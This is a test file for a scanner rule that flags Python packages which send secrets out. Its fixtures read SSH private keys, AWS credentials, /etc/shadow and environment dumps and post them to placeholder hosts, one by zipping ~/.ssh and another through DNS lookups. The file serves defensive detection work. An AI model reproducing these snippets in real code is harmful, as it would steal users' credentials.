import { describe, expect, it } from 'vitest';
import type { RawFinding } from '../../../core/finding.js';
import { analyseModule } from './analyse-module.js';
import { PKG_EXF_001 } from './exfiltration.js';

async function exfiltration(source: string, path = 'pkg/module.py'): Promise<readonly RawFinding[]> {
  const { findings } = await analyseModule(source, {
    path,
    role: path === 'setup.py' ? 'install' : 'library',
    enabledRules: new Set([PKG_EXF_001.id]),
    checkDeadline: () => undefined,
  });
  return findings;
}

describe('PKG-EXF-001', () => {
  it('reports a proven flow of an SSH key to a webhook as critical (the rule default) and names the source', async () => {
    const [finding, ...rest] = await exfiltration(
      [
        'import os, requests',
        'key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()',
        'requests.post("https://x.example.invalid", data=key)',
      ].join('\n'),
    );
    expect(rest).toEqual([]);
    expect(finding?.line).toBe(3);
    expect(finding?.severity).toBeUndefined();
    expect(finding?.message).toContain('SSH private keys (read at line 2)');
  });

  it('follows aliases, helper functions, parameters and values appended to a list', async () => {
    const findings = await exfiltration(
      [
        'import os as o',
        'from requests import post as send_it',
        'def gather():',
        '    out = []',
        '    out.append(open(o.path.join(o.path.expanduser("~"), ".aws", "credentials")).read())',
        '    return out',
        'def ship(payload, url="https://x.example.invalid"):',
        '    send_it(url, json=payload)',
        'ship(gather())',
      ].join('\n'),
    );
    expect(findings.map((f) => [f.line, f.severity])).toEqual([[8, undefined]]);
  });

  it('counts whole-environment dumps but not single variables', async () => {
    const findings = await exfiltration(
      [
        'import os, json, httpx',
        'httpx.post("https://x.example.invalid", content=json.dumps(os.environ))',
        'httpx.post("https://x.example.invalid", headers={"Authorization": os.environ["API_KEY"]})',
        'httpx.post("https://x.example.invalid", json={"home": os.environ.get("HOME")})',
        'env = os.environ.copy()',
        'httpx.post("https://x.example.invalid", json=env)',
        'import somelib',
        'out = somelib.fetch("x", env=os.environ)',
        'httpx.post("https://x.example.invalid", json={"out": out})',
        'httpx.post("https://x.example.invalid", json=os.environ)',
      ].join('\n'),
    );
    expect(findings.map((f) => f.line)).toEqual([2, 6, 10]);
  });

  it('rates machine fingerprints alone as medium', async () => {
    const [finding] = await exfiltration(
      'import socket, getpass, requests\nrequests.get("https://p.example.invalid", params={"h": socket.gethostname(), "u": getpass.getuser()})',
    );
    expect(finding?.severity).toBe('medium');
    expect(finding?.message).toContain('fingerprint');
  });

  it('rates a read of a sensitive file next to an unrelated send as high, in the same function only', async () => {
    const findings = await exfiltration(
      [
        'import os, shutil, requests',
        'def run():',
        '    shutil.make_archive("/tmp/k", "zip", os.path.expanduser("~/.ssh"))',
        '    requests.post("https://x.example.invalid", files={"f": open("/tmp/k.zip", "rb")})',
        'def other():',
        '    requests.post("https://api.example.com", json={"a": 1})',
      ].join('\n'),
    );
    expect(findings.map((f) => [f.line, f.severity, f.confidence])).toEqual([[4, 'high', 'medium']]);
  });

  it('reports DNS lookups only when the host name is built from the data', async () => {
    const findings = await exfiltration(
      [
        'import socket',
        'ip = socket.gethostbyname(socket.gethostname())',
        'name = socket.gethostname() + ".d.example.invalid"',
        'socket.gethostbyname(name)',
      ].join('\n'),
    );
    expect(findings.map((f) => [f.line, f.severity])).toEqual([[4, 'medium']]);
  });

  it('leaves SSH clients that read known_hosts and config alone, and barriers such as exists()', async () => {
    const findings = await exfiltration(
      [
        'import os, socket, requests',
        'from pathlib import Path',
        'hosts = open(os.path.join(os.path.expanduser("~"), ".ssh", "known_hosts")).read()',
        'cfg = (Path.home() / ".ssh" / "config").read_text()',
        'conn = socket.create_connection(("example.com", 22))',
        'conn.sendall(hosts.encode() + cfg.encode())',
        'requests.post("https://t.example.com", json={"key": os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))})',
      ].join('\n'),
    );
    expect(findings).toEqual([]);
  });

  it('reports secrets sent through methods of objects it cannot resolve, but nothing else there', async () => {
    const findings = await exfiltration(
      [
        'def upload(client, url):',
        '    client.post(url, data=open("/etc/shadow").read())',
        '    client.post(url, data="hello")',
      ].join('\n'),
    );
    expect(findings.map((f) => f.line)).toEqual([2]);
  });
});
